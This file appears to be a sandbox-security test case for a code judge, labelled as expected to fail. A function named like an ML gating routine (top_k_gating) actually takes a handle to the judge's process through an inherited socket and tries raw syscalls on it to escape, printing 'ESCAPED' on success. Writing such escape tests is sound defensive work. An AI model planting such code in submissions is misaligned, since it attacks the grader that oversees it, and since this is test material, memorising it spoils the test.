# expect: failed
# threat: 3 — gets a handle of the judge's process from the socket itself and uses it
import ctypes
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
SO_PEERPIDFD = 77


def top_k_gating(token_embeddings, gating_network, k=2):
    channel = socket.socket(fileno=3)
    try:
        handle = channel.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
        for call in (
            (438, handle, 3, 0),
            (424, handle, signal.SIGCONT, None, 0),
            (308, handle, 0),
            (448, handle, 0),
        ):
            if libc.syscall(*call) >= 0:
                print("ESCAPED", call)
    except OSError as error:
        print(error.strerror)
    finally:
        channel.detach()
    return
